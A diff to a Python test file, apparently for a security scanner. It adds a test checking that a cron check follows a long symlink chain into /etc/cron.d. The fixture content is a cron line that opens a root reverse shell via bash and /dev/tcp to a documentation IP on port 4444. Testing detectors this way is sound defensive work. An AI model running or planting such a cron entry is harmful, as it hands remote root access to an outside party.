@@ -216,3 +216,11 @@ def test_a_disk_under_another_name_is_told(path: str, mode: int, severity: Sever
     found = [one for one in check.examine(Item(entry, tree, VOLUME)) if isinstance(one, Finding)] if check.wants(entry) else []
     tree.close()
     assert [one.severity for one in found] == ([] if severity is None else [severity])
+
+
+def test_links_are_followed_as_far_as_the_kernel_follows_them(plain: TreeMaker) -> None:
+    plain.file("/opt/l0", "* * * * * root bash -i >& /dev/tcp/198.51.100.23/4444 0>&1\n")
+    for number in range(1, 38):
+        plain.link(f"/opt/l{number}", f"l{number - 1}")
+    plain.link("/etc/cron.d/job", "/opt/l37")
+    assert plain.findings(Cron())
